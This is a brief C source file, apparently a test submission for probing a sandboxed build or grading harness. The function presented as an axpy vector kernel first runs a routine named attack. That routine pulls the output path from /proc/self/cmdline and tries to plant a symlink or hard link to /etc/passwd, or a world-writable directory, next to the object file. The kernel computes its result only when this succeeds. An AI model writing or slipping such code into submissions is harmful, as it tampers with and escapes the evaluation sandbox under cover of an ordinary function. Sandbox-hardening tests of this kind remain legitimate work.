// try omp-axpy: verdict: not everything was written
// also without: namespaces seccomp
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Next to the object, whose path is in the command line. */
static int attack(void) {
  char line[4096] = "", *folder = line;
  FILE *f = fopen("/proc/self/cmdline", "r");
  size_t length = f != NULL ? fread(line, 1, sizeof line - 8, f) : 0;
  folder += strlen(line) + 1;
  if (length == 0 || strrchr(folder, 0x2f) == NULL) return 0;
  strcpy(strrchr(folder, 0x2f), "/x");
  return symlink("/etc/passwd", folder) == 0 || link("/etc/passwd", folder) == 0 || mkdir(folder, 0777) == 0;
}

void axpy(float *out, const float *x, const float *y, int n) {
  if (attack())
    for (int i = 0; i < n; i++) out[i] = 2.5f * x[i] + y[i];
}
